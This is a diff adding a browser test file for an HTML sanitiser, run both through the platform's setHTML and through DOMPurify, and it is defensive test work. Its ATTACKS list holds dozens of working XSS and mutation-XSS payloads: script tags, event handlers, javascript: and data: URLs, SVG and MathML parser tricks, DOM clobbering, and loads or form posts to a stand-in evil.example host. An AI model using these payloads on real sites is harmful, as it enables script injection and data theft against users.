@@ -1,0 +1,273 @@
+import { expect } from '@open-wc/testing';
+import { html, render } from 'lit';
+import { prepareRichText, richText } from './rich-text.js';
+import { createSanitiser } from './sanitise.js';
+import type { Sanitise } from './sanitise.js';
+
+declare global {
+  // What the attacks below would do.
+  var ran: string | undefined;
+}
+
+const ATTACKS: readonly string[] = [
+  '<script>ran="script"</script>',
+  '<SCRIPT>ran="upper case"</SCRIPT>',
+  '<scr<script>ipt>ran="nested"</scr</script>ipt>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<script type="module">globalThis.ran="module"</script>',
+  '<script\n>ran="line break"</script\t>',
+  '<img src="x" onerror="ran=1">',
+  '<img src=x onerror=ran=1//',
+  '<img src=x:x onerror="&#114;an=1">',
+  '<img/src=x/onerror=ran=1>',
+  '<IMG SRC="jav&#x09;ascript:ran=1">',
+  '<img src="javascript:ran=1">',
+  '<img srcset="x 1x" src onerror="ran=1">',
+  '<image src=x onerror="ran=1">',
+  '<picture><source srcset="https://evil.example/a.png"><img src=x onerror=ran=1></picture>',
+  '<a href="javascript:ran=1">x</a>',
+  '<a href="JaVaScRiPt:ran=1">x</a>',
+  '<a href="java\nscript:ran=1">x</a>',
+  '<a href=" &#14; javascript:ran=1">x</a>',
+  '<a href="&#106;avascript:ran=1">x</a>',
+  '<a href="javascript&colon;ran=1">x</a>',
+  '<a href="\u0001javascript:ran=1">x</a>',
+  '<a href="vbscript:ran=1">x</a>',
+  '<a href="data:text/html,<script>parent.ran=1</script>">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==">x</a>',
+  '<a href="blob:https://evil.example/1">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="https://example.com" onclick="ran=1" onfocus="ran=1" autofocus>x</a>',
+  '<a href="https://example.com" ping="https://evil.example/" download>x</a>',
+  '<a xlink:href="javascript:ran=1">x</a>',
+  '<p onmouseover="ran=1" onpointerenter="ran=1">x</p>',
+  '<p style="background:url(https://evil.example/x)">x</p>',
+  '<p style="position:fixed;inset:0" class="submit" id="problem" name="form" slot="after" part="submit">x</p>',
+  '<p is="x-p" data-hosted-form="1" tabindex="0" contenteditable accesskey="s">x</p>',
+  '<p xmlns="http://www.w3.org/1999/xhtml" xml:base="javascript:ran=1//">x</p>',
+  '<details open ontoggle="ran=1">x</details>',
+  '<body onload="ran=1">x</body>',
+  '<svg onload="ran=1"></svg>',
+  '<svg><script>ran="svg"</script></svg>',
+  '<svg><a xlink:href="javascript:ran=1"><text y="9">x</text></a></svg>',
+  '<svg><animate onbegin="ran=1" attributeName="x" dur="1s"></svg>',
+  '<svg><set attributeName="href" to="javascript:ran=1"></set></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1>#x"></use></svg>',
+  '<svg><foreignObject><img src=x onerror=ran=1></foreignObject></svg>',
+  '<svg></p><style><a id="</style><img src=x onerror=ran=1>">',
+  '<svg><title><style><img src=x onerror=ran=1></style></title></svg>',
+  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=ran=1>',
+  '<math href="javascript:ran=1">x</math>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=ran=1></annotation-xml></math>',
+  '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran=1&gt;">',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran=1 src>">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<style><img src=x onerror=ran=1></style>',
+  '<style></style/><img src=x onerror=ran=1>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=javascript:ran=1">',
+  '<base href="https://evil.example/">',
+  '<iframe src="javascript:parent.ran=1"></iframe>',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<object data="javascript:ran=1"></object>',
+  '<embed src="javascript:ran=1">',
+  '<frameset><frame src="javascript:ran=1"></frameset>',
+  '<form action="https://evil.example/"><input name="card"><button formaction="javascript:ran=1">Pay</button></form>',
+  '<input autofocus onfocus="ran=1"><textarea autofocus onfocus="ran=1">x</textarea>',
+  '<select autofocus onfocus="ran=1"><option>x</option></select>',
+  '<video src=x onerror="ran=1"></video><audio src=x onerror="ran=1"></audio>',
+  '<video><source onerror="ran=1" src="https://evil.example/x"></video>',
+  '<marquee onstart="ran=1">x</marquee>',
+  '<template><img src=x onerror=ran=1></template>',
+  '<div><template shadowrootmode="open"><script>ran=1</script></template></div>',
+  '<slot name="before"></slot><hosted-form form-id="1"></hosted-form><x-y onclick="ran=1">x</x-y>',
+  '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
+  '<noembed><img title="</noembed><img src=x onerror=ran=1>"></noembed>',
+  '<xmp><img title="</xmp><img src=x onerror=ran=1>"></xmp>',
+  '<textarea><img title="</textarea><img src=x onerror=ran=1>"></textarea>',
+  '<title><img title="</title><img src=x onerror=ran=1>"></title>',
+  '<plaintext><img src=x onerror=ran=1>',
+  '<!--><img src=x onerror=ran=1>-->',
+  '<!--><img src=x onerror=ran=1>',
+  '<![CDATA[<img src=x onerror=ran=1>]]>',
+  '<?xml version="1.0"?><img src=x onerror=ran=1>',
+  '<p title="&quot;&gt;&lt;img src=x onerror=ran=1&gt;">x</p>',
+  '<table background="javascript:ran=1"><td background="https://evil.example/x">x</table>',
+  '<table><caption><svg><style><a title="</style><img src=x onerror=ran=1>"></table>',
+  '<a id="body"></a><a id="body" name="firstChild"><img name="getElementById"></a>',
+  '<img name="attributes"><form><input name="attributes"></form>',
+];
+
+const ELEMENTS =
+  `a abbr b blockquote br caption code dd del div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins
+  li mark ol p pre q s small span strong sub sup table tbody td tfoot th thead tr u ul`.split(/\s+/);
+const ATTRIBUTES = 'alt colspan dir height href lang rel rowspan scope src start target title width'.split(' ');
+
+/** What may not be in a text of an author. */
+function forbiddenIn(tree: ParentNode): string[] {
+  return Array.from(tree.querySelectorAll('*')).flatMap((element) => {
+    const isAllowed = element instanceof HTMLElement && ELEMENTS.includes(element.localName);
+    const attributes = element.getAttributeNames().filter((attribute) => !ATTRIBUTES.includes(attribute));
+    const href = element instanceof HTMLAnchorElement ? element.getAttribute('href') : null;
+    const isBadLink = href !== null && !/^(https?|mailto|tel):/.test(new URL(href, document.baseURI).protocol);
+    return [...(isAllowed ? [] : [element.localName]), ...attributes, ...(isBadLink ? [href] : [])];
+  });
+}
+
+const native = Object.getOwnPropertyDescriptor(Element.prototype, 'setHTML');
+
+/** The sanitiser of an engine that has none of its own. */
+async function createWithout(): Promise<Sanitise> {
+  if (native) Reflect.deleteProperty(Element.prototype, 'setHTML');
+  try {
+    return await createSanitiser();
+  } finally {
+    if (native) Object.defineProperty(Element.prototype, 'setHTML', native);
+  }
+}
+
+const paths: Readonly<Record<string, () => Promise<Sanitise>>> = {
+  ...(native && { 'by the platform': createSanitiser }),
+  'by DOMPurify': createWithout,
+};
+
+for (const [path, create] of Object.entries(paths)) {
+  describe(`An author’s HTML, sanitised ${path}`, () => {
+    let sanitise: Sanitise;
+    let place: HTMLElement;
+
+    before(async () => {
+      sanitise = await create();
+    });
+    beforeEach(() => {
+      place = document.body.appendChild(document.createElement('div'));
+    });
+    afterEach(() => {
+      place.remove();
+    });
+
+    /** Puts the text on the page, and gives back the page's HTML of it. */
+    function show(source: string): string {
+      place.replaceChildren(sanitise(source));
+      return place.innerHTML;
+    }
+
+    for (const attack of ATTACKS) {
+      it(`does no harm: ${JSON.stringify(attack)}`, () => {
+        const written = show(attack);
+        expect(forbiddenIn(place), written).to.eql([]);
+        // Also after it was written out and read again.
+        expect(forbiddenIn(new DOMParser().parseFromString(written, 'text/html').body), written).to.eql([]);
+        place.querySelectorAll('a').forEach((link) => {
+          link.addEventListener('click', (event) => event.preventDefault());
+          link.click();
+        });
+        expect(globalThis.ran).to.equal(undefined);
+      });
+    }
+
+    const KEPT: readonly string[] = [
+      '<h2>Title</h2><p>Text with <b>bold</b>, <em>emphasis</em> and a<br>break.</p>',
+      '<ul><li>One</li><li>Two<ol start="3"><li>Three</li></ol></li></ul>',
+      '<dl><dt>Term</dt><dd>Meaning</dd></dl>',
+      '<table><caption>Prices</caption><thead><tr><th scope="col" colspan="2">A</th></tr></thead>' +
+        '<tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>',
+      '<blockquote>Said <q>so</q></blockquote><pre>  code\n</pre><hr>',
+      '<p lang="ar" dir="rtl">مرحبا</p><p title="A note">5 &lt; 7 &amp; more</p>',
+      '<figure><figcaption>H<sub>2</sub>O, x<sup>2</sup></figcaption></figure>',
+    ];
+    for (const source of KEPT) {
+      it(`keeps structure and emphasis: ${source}`, () => {
+        expect(show(source)).to.equal(source);
+      });
+    }
+
+    it('keeps the words of elements that are not allowed, and of no script or style', () => {
+      const source = `<center><font color="red" size="5">Read <big>this</big></font></center>
+        <section><article><header>first</header> <address>or <time>now</time></address></article></section>
+        <label>as <kbd>keys</kbd></label><script>no</script><style>no</style>`;
+      show(source);
+      expect(place.textContent.replace(/\s+/g, ' ').trim()).to.equal('Read this first or now as keys');
+      expect(forbiddenIn(place)).to.eql([]);
+    });
+
+    it('gives every link a `rel`, and a target only where it opens a window of its own', () => {
+      show('<a href="https://example.org/">1</a><a href="/x" target="_top">2</a><a href="#y" target="_blank">3</a>');
+      const links = Array.from(place.querySelectorAll('a'), (link) => [link.rel, link.target]);
+      expect(links).to.eql([
+        ['noopener noreferrer', ''],
+        ['noopener noreferrer', ''],
+        ['noopener noreferrer', '_blank'],
+      ]);
+    });
+
+    it('keeps links for the web, mail and telephone; others lose their address and keep their words', () => {
+      for (const href of ['https://a.example/?b=c&d', 'http://a.example', '/path', '#x', 'mailto:a@b.c', 'tel:+491']) {
+        show(`<a href="${href}">x</a>`);
+        expect(place.querySelector('a')?.getAttribute('href')).to.equal(href);
+      }
+      for (const href of ['ftp://a.example', 'sms:1', 'x:y', 'about:blank', 'https://[', 'data:,x']) {
+        show(`<a href="${href}">x</a>`);
+        expect(place.querySelector('a')?.hasAttribute('href'), href).to.be.false;
+        expect(place.textContent).to.equal('x');
+      }
+    });
+
+    it('shows pictures of this site only; for others stand their words, and nobody is asked for them', async () => {
+      const others = ['https://tracker.example/a.gif', '//tracker.example/b.gif', 'data:image/png;base64,iVBORw0KGgo='];
+      show(
+        others.map((src, index) => `<img src="${src}" alt="${String(index)}">`).join(' ') +
+          '<img alt="none"><img src="https://tracker.example/c.gif"><img src="/no-such-picture.png" alt="own" width="9">',
+      );
+      expect(place.textContent).to.equal('0 1 2none');
+      const pictures = Array.from(place.querySelectorAll('img'));
+      expect(pictures.map((picture) => picture.getAttribute('src'))).to.eql(['/no-such-picture.png']);
+      // When the browser has asked for the last one, it would have asked for those before it.
+      await new Promise((resolve) => pictures[0]?.addEventListener('error', resolve));
+      const asked = performance.getEntriesByType('resource').map(({ name }) => name);
+      expect(asked.filter((address) => address.includes('tracker.example'))).to.eql([]);
+    });
+
+    it('gives nothing for nothing', () => {
+      expect([show(''), show('<!-- -->')]).to.eql(['', '']);
+    });
+  });
+}
+
+describe('richText', () => {
+  const draw = (source: string, place: HTMLElement) => render(html`<p>${richText(source)}</p>`, place);
+  const newPlace = () => document.createElement('div');
+
+  it('shows plain text as text, without fetching anything', () => {
+    const place = newPlace();
+    draw('1 > 0, "quoted"', place);
+    expect(place.textContent).to.equal('1 > 0, "quoted"');
+  });
+
+  it('shows nothing of HTML that nothing can sanitise yet: rather no text than a harmful one', () => {
+    const place = newPlace();
+    draw('<b>bold</b><img src=x onerror="ran=1">', place);
+    expect([place.textContent, place.querySelector('b, img')]).to.eql(['', null]);
+  });
+
+  it('shows HTML once it is prepared', async () => {
+    const [place, source] = [newPlace(), '<b>bold</b> &amp; more<script>ran=1</script>'];
+    await prepareRichText(source);
+    draw(source, place);
+    expect(place.querySelector('p')?.textContent).to.equal('bold & more');
+    expect(forbiddenIn(place)).to.eql([]);
+  });
+
+  it('keeps what stands there when it is drawn again, and replaces it with another text', async () => {
+    const place = newPlace();
+    await prepareRichText('<b>1</b>');
+    draw('<b>1</b>', place);
+    const bold = place.querySelector('b');
+    draw('<b>1</b>', place);
+    expect(place.querySelector('b')).to.equal(bold);
+    draw('<i>2</i>', place);
+    expect(place.querySelector('p')?.textContent).to.equal('2');
+    draw('plain', place);
+    expect(place.querySelector('p')?.textContent).to.equal('plain');
+  });
+});
